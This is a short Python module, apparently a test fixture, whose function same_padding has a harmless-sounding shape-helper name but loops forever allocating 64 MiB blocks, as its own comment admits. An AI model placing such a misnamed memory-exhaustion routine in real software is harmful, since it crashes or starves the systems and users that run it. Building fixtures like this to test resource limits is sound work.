# module: shapes
# Keeps allocating (and touching) memory until something stops it.
def same_padding(f):
    blocks = []
    while True:
        blocks.append(bytearray(64 * 2**20))
